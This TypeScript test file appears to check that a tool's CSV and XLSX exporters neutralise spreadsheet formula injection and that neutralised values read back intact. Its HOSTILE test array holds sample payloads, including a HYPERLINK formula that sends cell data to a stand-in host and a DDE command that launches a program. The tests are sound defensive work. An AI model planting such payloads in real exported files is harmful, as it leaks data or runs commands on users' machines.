import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { formatCsv, openCsvWriter } from '../../src/data/csv-write.ts';
import { readCsv } from '../../src/data/csv.ts';
import { readXlsx } from '../../src/data/xlsx.ts';
import { makeTable } from '../../src/data/table.ts';
import { toCsv, writeRowsCsv, writeXlsx } from '../../src/qual/exports.ts';
import { plain, tmpDir } from './helpers.ts';

/** Text a spreadsheet would run as a formula (or DDE command) when the file is opened. */
const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  '+SUM(1,2)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''@twice",
];
/** Text that starts like a formula but is a plain number, and ordinary text: left as it is. */
const HARMLESS = ['-3', '+5', '-0.25', '1e5', 'Support - peer', "O'Neil", "'quoted'"];

function dangerous(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell);
}

/** The unquoted cells of a CSV text (RFC 4180). */
function cells(csv: string): string[] {
  const out: string[] = [];
  const re = /(?:^|,|\n)(?:"((?:[^"]|"")*)"|([^,\n"]*))/g;
  for (let m = re.exec(csv); m !== null; m = re.exec(csv)) {
    if (m.index === csv.length) break;
    out.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]);
  }
  return out;
}

test('CSV writer: text a spreadsheet would execute is neutralised with a leading apostrophe; numbers and ordinary text are not', () => {
  const rows = [['code', 'coder', 'quote', 'score'], ...HOSTILE.map((h, i) => [h, `@coder${i}`, HARMLESS[i % HARMLESS.length], String(-i - 0.5)])];
  const text = toCsv(rows);
  for (const c of cells(text)) assert.ok(!dangerous(c), `cell ${JSON.stringify(c)} would run as a formula`);
  for (const h of HARMLESS) if (!h.startsWith("'")) assert.ok(text.includes(h), `${h} kept as written`);
  assert.ok(text.includes('-0.5\n'), 'a negative number stays a number');
  // a table's text column and its header too
  const t = makeTable({
    source: 't',
    columns: [
      { kind: 'text', name: '=id', codes: Int32Array.from([0, 1, 2]), dictionary: ['=1+1', 'P01', '-x'] },
      { kind: 'number', name: 'score', values: Float64Array.from([-1.5, 2, -0]) },
    ],
  });
  const csv = formatCsv(t);
  for (const c of cells(csv)) assert.ok(!dangerous(c), `cell ${JSON.stringify(c)} would run as a formula`);
  assert.match(csv, /^'=id,score\n'=1\+1,-1\.5\nP01,2\n'-x,0\n$/);
});

test('CSV: a neutralised value reads back as it was (export, then import, round trips)', () => {
  const dir = tmpDir();
  const values = [...HOSTILE, ...HARMLESS, "'", "''", '='];
  const p = join(dir, 'codes.csv');
  writeRowsCsv(p, [['=name', 'value'], ...values.map((v) => [v, 'x'])]);
  assert.equal(readFileSync(p, 'utf8'), toCsv([['=name', 'value'], ...values.map((v) => [v, 'x'])]));
  const back = plain(readCsv(p, { types: { '=name': 'text' } }));
  assert.deepEqual(Object.keys(back.cols), ['=name', 'value']);
  assert.deepEqual(back.cols['=name'], values.map((v) => (v.trim() === '' ? null : v)));
  // the streaming writer (score --out) too
  const q = join(dir, 'scores.csv');
  const w = openCsvWriter(q, ['id', 'total']);
  w.writeRow(['=evil()', -4]);
  w.writeRow(['@x', 3]);
  w.commit();
  assert.equal(readFileSync(q, 'utf8'), "id,total\n'=evil(),-4\n'@x,3\n");
  const b2 = plain(readCsv(q, { types: { id: 'text' } }));
  assert.deepEqual(b2.cols.id, ['=evil()', '@x']);
  assert.deepEqual(b2.cols.total, [-4, 3]);
});

test('XLSX writer: the same rule for text cells; numbers stay numbers; reading the workbook back restores the text', async () => {
  const dir = tmpDir();
  const p = join(dir, 'm.xlsx');
  const rows = [['code', 'P01', 'note'], ...HOSTILE.map((h, i) => [h, String(-i), HARMLESS[i % HARMLESS.length]])];
  await writeXlsx(p, [{ name: 'matrix', rows }]);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(p);
  const ws = wb.worksheets[0];
  ws.eachRow((row) => {
    (row.values as unknown[]).forEach((v) => {
      if (typeof v === 'string') assert.ok(!dangerous(v), `cell ${JSON.stringify(v)} would run as a formula`);
      else if (v !== undefined && v !== null) assert.equal(typeof v, 'number');
    });
  });
  assert.equal(ws.getCell('B3').value, -1);
  const t = plain(await readXlsx(p, { types: { code: 'text', note: 'text' } }));
  // XML keeps no carriage return: the workbook holds it as a line feed (and so the cell is not a formula either)
  assert.deepEqual(t.cols.code, HOSTILE.map((h) => h.replace(/\r/g, '\n')));
  assert.deepEqual(t.cols.P01, HOSTILE.map((_, i) => -i || 0));
});
